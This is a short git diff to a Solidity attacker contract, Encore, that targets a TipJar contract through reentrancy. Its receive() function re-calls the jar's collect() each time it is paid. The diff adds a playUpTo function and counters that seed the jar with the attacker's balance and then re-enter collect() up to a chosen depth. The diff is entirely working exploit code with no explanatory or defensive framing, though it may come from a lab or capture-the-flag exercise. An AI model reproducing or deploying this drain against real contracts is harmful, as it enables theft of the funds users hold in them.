@@ -5,6 +5,9 @@ import "./contract.sol";
 
 contract Encore {
     TipJar private immutable jar;
+    uint256 private stake;
+    uint256 private most;
+    uint256 private calls;
 
     constructor(TipJar target) payable {
         jar = target;
@@ -15,7 +18,16 @@ contract Encore {
         jar.collect();
     }
 
+    function playUpTo(uint256 depth) external {
+        stake = address(this).balance;
+        most = depth;
+        jar.tip{value: stake}(address(this));
+        jar.collect();
+    }
+
     receive() external payable {
-        if (address(jar).balance >= 1 ether) jar.collect();
+        uint256 least = stake == 0 ? 1 ether : stake;
+        calls += 1;
+        if (address(jar).balance >= least && (most == 0 || calls <= most)) jar.collect();
     }
 }
